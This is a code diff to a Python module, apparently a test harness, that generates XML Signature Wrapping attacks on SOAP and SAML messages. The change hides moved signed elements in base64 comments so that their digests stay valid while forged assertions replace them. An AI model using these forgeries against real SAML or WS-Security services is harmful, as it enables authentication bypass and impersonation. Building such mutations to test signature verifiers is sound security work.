@@ -9,7 +9,9 @@ signature, and adds position and comment tricks that leave the STS signature val
 
 from __future__ import annotations
 
+import base64
 import copy
+import re
 from collections.abc import Callable
 from datetime import datetime, timedelta, timezone
 
@@ -41,7 +43,8 @@ def _parse(data: bytes) -> etree._Element:
 
 
 def _out(root: etree._Element) -> bytes:
-    return etree.tostring(root, encoding="UTF-8", xml_declaration=False)
+    data = etree.tostring(root, encoding="UTF-8", xml_declaration=False)
+    return re.sub(rb"<!--MOVED:([A-Za-z0-9+/=]+)-->", lambda m: base64.b64decode(m.group(1)), data)
 
 
 # --- SOAP family: the Body / Timestamp signed by wsse:Security -------------------------------------------
@@ -78,6 +81,16 @@ def _forge(original: etree._Element, part: str, keep_id: bool) -> etree._Element
     return forged
 
 
+def _moved(el: etree._Element) -> etree._Element:
+    """A stand-in for ``el`` that :func:`_out` replaces by ``el``'s exact bytes, as an attacker moves it.
+
+    Moving the element in the tree would let lxml re-prefix it to a declaration of its new ancestors,
+    which changes its canonical form and breaks its digest: not the attack we want to model.
+    """
+    data = etree.tostring(el, with_tail=False)
+    return etree.Comment("MOVED:" + base64.b64encode(data).decode())
+
+
 def _wrapper(env: etree._Element) -> etree._Element:
     w = etree.Element("{urn:attacker}Wrapper", nsmap={"w": "urn:attacker"})
     w.set(f"{{{NS_SOAP}}}mustUnderstand", "0")
@@ -95,6 +108,7 @@ def _soap_xsw(number: int, part: str, keep_id: bool) -> Mutation:
             parent.insert(parent.index(original), forged)
             return _out(env)
         parent.replace(original, forged)
+        original = _moved(original)
         if number == 1:  # XSW1: the signed element inside the ds:Signature
             sig.append(original)
         elif number == 2:  # XSW2: the signed element detached in wsse:Security, before the Signature
@@ -240,21 +254,22 @@ def _saml_xsw(number: int) -> Mutation:
             forged = forged_assertion(original, new_id=False, keep_signature=False)
             parent.replace(original, forged)
             wrapper = etree.Element("{urn:attacker}Extensions")
-            wrapper.append(original)
+            wrapper.append(_moved(original))
             forged.addnext(wrapper)
             return _out(root)
         index = parent.index(original) if parent is not None else None
         if parent is not None:
             parent.remove(original)
+        moved = _moved(original)
         if number in (1, 2):  # forged with a new Id, carrying the Signature copy
             forged = forged_assertion(original, new_id=True, keep_signature=True)
             if number == 1:  # XSW1: the signed assertion inside that Signature
-                forged.find(SIGNATURE).append(original)
+                forged.find(SIGNATURE).append(moved)
             else:  # XSW2: the signed assertion detached just before that Signature
-                forged.find(SIGNATURE).addprevious(original)
+                forged.find(SIGNATURE).addprevious(moved)
         elif number == 4:  # the signed assertion inside the forged one (same Id)
             forged = forged_assertion(original, new_id=False, keep_signature=False)
-            forged.append(original)
+            forged.append(moved)
         elif number == 6:  # the original, unsigned, inside the forged one's Signature
             forged = forged_assertion(original, new_id=False, keep_signature=True)
             forged.find(SIGNATURE).append(_unsigned(original))
